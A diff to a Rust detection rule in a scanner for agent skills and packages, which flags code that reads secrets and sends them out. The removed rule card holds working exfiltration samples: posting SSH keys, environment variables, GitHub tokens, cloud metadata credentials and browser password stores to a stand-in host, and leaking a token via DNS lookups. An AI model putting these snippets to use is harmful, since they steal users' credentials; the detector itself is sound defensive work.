@@ -1,168 +1,24 @@
 //! source-credential-read-and-send: one file reads secrets and talks to the network.
 
 use std::collections::BTreeSet;
-use std::sync::LazyLock;
 
 use super::source_calls::{SourceFile, source_files, weighed};
-use crate::{FactSink, Rule, RuleMeta};
+use crate::FactSink;
 use capdex_evidence::code::sinks::{carried_out, sends, text_of};
 use capdex_evidence::code::{Argument, Call, TaintSources, is_issuer};
 use capdex_evidence::subject::Subject;
 use capdex_model::fact::{Confidence, Severity};
 
-/// See the file's first line.
-pub(super) struct SourceCredentialReadAndSend;
-
-static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));
-
-const CARD: &str = r##"
-id = "source-credential-read-and-send"
-version = 4
-title = "Secrets are read and something is sent"
-why = "Reading a key file or the whole environment beside a network call is how credentials leave a machine."
-fix = "Read only the variables that are needed, by name; leave key files to the programs that own them."
-cannot_see = "Secrets that come back from another file, and flows through code that it does not know: there it goes by how near reading and sending stand."
-severity = "critical"
-confidence = "high"
-kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
-lifecycle = "stable"
-cites = ["SAFE-T1502", "SAFE-T1503", "SAFE-T1913", "owasp-mcp:MCP01"]
-[codes]
-spiderrating = ["TS-E005", "TS-E008"]
-agentscore = ["sensitive_file_access"]
-[[examples.fires]]
-note = "A key file is posted."
-[examples.fires.files]
-"index.js" = '''
-import fs from "fs"; import os from "os"; import path from "path";
-const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
-fetch("https://collector.test/in", { method: "POST", body: key });'''
-[[examples.fires]]
-note = "The whole environment is posted."
-[examples.fires.files]
-"x.py" = '''
-import os, json, requests
-requests.post("https://collector.test", data=json.dumps(dict(os.environ)))
-'''
-[[examples.fires]]
-note = "One of many files, read in one function and sent in another."
-[examples.fires.files]
-"a.py" = '''
-import os, requests
-PATHS = ["~/.ssh/id_rsa", "~/.aws/credentials"]
-def gather():
-    found = {}
-    for path in PATHS:
-        with open(os.path.expanduser(path)) as f:
-            found[path] = f.read()
-    return found
-def main():
-    data = gather()
-    requests.post("https://collector.test", json=data)
-'''
-[[examples.fires]]
-note = "The environment over a request that is written to."
-[examples.fires.files]
-"a.js" = '''
-const https = require("https");
-const body = Buffer.from(JSON.stringify(process.env)).toString("base64");
-const req = https.request({ hostname: "collector.test", method: "POST" });
-req.write(body); req.end();'''
-[[examples.fires]]
-note = "A token that a program hands out goes to a stranger."
-[examples.fires.files]
-"a.py" = '''
-import subprocess, requests
-token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout
-requests.post("https://collector.test/in", data=token)
-'''
-[[examples.fires]]
-note = "What the machine's own service answers is posted."
-[examples.fires.files]
-"a.js" = '''
-const r = await fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
-await fetch("https://collector.test/in", { method: "POST", body: await r.text() });'''
-[[examples.fires]]
-note = "A key file is put into a store."
-[examples.fires.files]
-"a.py" = '''
-import boto3, os
-boto3.client("s3").upload_file(os.path.expanduser("~/.ssh/id_rsa"), "kit", "k")
-'''
-[[examples.fires]]
-note = "A token in a name that is looked up."
-[examples.fires.files]
-"a.py" = '''
-import os, socket
-held = os.environ["SERVICE_TOKEN"].encode().hex()
-socket.gethostbyname(f"{held[:50]}.kit.test")
-'''
-[[examples.fires]]
-note = "A store of passwords is copied, opened and posted."
-[examples.fires.files]
-"a.py" = '''
-import os, shutil, sqlite3, requests
-shutil.copy(os.path.expanduser("~/.config/google-chrome/Default/Login Data"), "/tmp/copy.db")
-rows = sqlite3.connect("/tmp/copy.db").execute("select * from logins").fetchall()
-requests.post("https://collector.test/in", json=rows)
-'''
-[[examples.fires]]
-note = "The environment is handed to another file, which sends it."
-[examples.fires.files]
-"a.js" = 'const { report } = require("./net"); report({ ...process.env });'
-"net.js" = 'exports.report = (body) => fetch("https://collector.test/in", { method: "POST", body: JSON.stringify(body) });'
-[[examples.silent]]
-note = "The environment is handed to another file, which reads its settings from it."
-[examples.silent.files]
-"a.js" = 'const { settings } = require("./net"); const kit = settings(process.env);'
-"net.js" = 'exports.settings = (env) => ({ host: env.HOST }); exports.ask = () => fetch("https://api.test");'
-[[examples.silent]]
-note = "A token that goes back to who handed it out."
-[examples.silent.files]
-"a.py" = '''
-import subprocess, requests
-token = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
-requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + token})
-'''
-[[examples.silent]]
-note = "One variable by name."
-[examples.silent.files]
-"index.js" = 'fetch("https://api.test", { headers: { Authorization: process.env.API_KEY } });'
-[[examples.silent]]
-note = "The environment is filtered and nothing is sent."
-[examples.silent.files]
-"index.js" = 'for (const [k, v] of Object.entries(process.env)) { if (k.startsWith("APP_")) settings[k] = v; }'
-[[examples.silent]]
-note = "The environment for a child that downloads."
-[examples.silent.files]
-"index.js" = '''
-import { spawn } from "child_process";
-spawn("wget", ["https://files.test/a", "-O", "a"], { env: process.env });'''
-[[examples.silent]]
-note = "The environment for a child."
-[examples.silent.files]
-"index.js" = '''
-import { spawn } from "child_process";
-spawn("ls", { env: { ...process.env, A: "1" } });
-fetch("https://api.test");'''
-"##;
-
-impl Rule for SourceCredentialReadAndSend {
-    fn meta(&self) -> &RuleMeta {
-        &META
-    }
-
-    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
-        report_handed(subject, facts);
-        for file in source_files(subject) {
-            let senders: Vec<&Call> = file.view.calls.iter().filter(|call| sends(call)).collect();
-            if report_flows(&file, facts) {
-                continue;
-            }
-            for call in &file.view.calls {
-                if let Some(whole) = reads_secret(call) {
-                    report(&file, call, &senders, whole, facts);
-                }
+pub(super) fn check(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
+    report_handed(subject, facts);
+    for file in source_files(subject) {
+        let senders: Vec<&Call> = file.view.calls.iter().filter(|call| sends(call)).collect();
+        if report_flows(&file, facts) {
+            continue;
+        }
+        for call in &file.view.calls {
+            if let Some(whole) = reads_secret(call) {
+                report(&file, call, &senders, whole, facts);
             }
         }
     }
@@ -187,15 +43,15 @@ fn report_flows(file: &SourceFile<'_>, facts: &mut FactSink<'_>) -> bool {
     found
 }
 
-/// Whether a call looks a name up that was put together, so that what is in it reaches whoever owns the zone.
+/// True where a call looks a name up that was put together, so that what is in it reaches whoever owns the zone.
 fn looks_up(call: &Call) -> bool {
     let by_name = matches!(call.callee.as_str(), "socket.gethostbyname" | "socket.getaddrinfo")
         || call.callee.starts_with("dns.");
     by_name && call.flows.first.any(TaintSources::COMPOSED)
 }
 
-/// Whether a call goes to somebody who did not hand out the token that it carries: by the address in it, else by those
-/// in the file, of which none may be an issuer's.
+/// True where a call goes to somebody who did not hand out its token: by the address in it, else by those in the file,
+/// of which none may be an issuer's.
 fn leaves_issuer(file: &SourceFile<'_>, call: &Call) -> bool {
     let texts = call.arguments.iter().filter_map(text_of).chain(std::iter::once(call.text.as_str()));
     let named = texts.filter_map(|text| text.find("http").and_then(|at| text.get(at..))).next();
@@ -229,7 +85,7 @@ fn report_handed(subject: &Subject<'_>, facts: &mut FactSink<'_>) {
     }
 }
 
-/// What functions that send are called.
+/// Names of functions that send.
 const CARRIES: [&str; 10] =
     ["send", "post", "report", "track", "ship", "push", "upload", "emit", "beacon", "telemetry"];
 
@@ -244,12 +100,12 @@ fn module_and_function(callee: &str) -> (&str, &str) {
     (module, function.unwrap_or(module))
 }
 
-/// How far apart, in lines of ordinary length, a read and a send are surely one piece of work.
+/// The distance, in lines of ordinary length, within which a read and a send are surely one piece of work.
 const NEAR: u32 = 15;
 /// Columns that make up for a line where a bundler has joined many into one.
 const COLUMNS_A_LINE: u32 = 80;
 
-/// How many lines of ordinary length lie between two calls.
+/// The distance of two calls, in lines of ordinary length.
 fn distance(a: &Call, b: &Call) -> u32 {
     let columns = a.place.column.abs_diff(b.place.column);
     let lines = a.place.line.abs_diff(b.place.line);
@@ -287,7 +143,7 @@ const SECRETS: [&str; 26] = [
     "exodus.wallet",
 ];
 
-/// Whether a call reads a secret file (`Some(false)`) or takes the whole environment into data (`Some(true)`).
+/// A call that reads a secret file (`Some(false)`) or takes the whole environment into data (`Some(true)`).
 fn reads_secret(call: &Call) -> Option<bool> {
     let method = call.callee.rsplit('.').next().unwrap_or_default();
     match call.callee.as_str() {
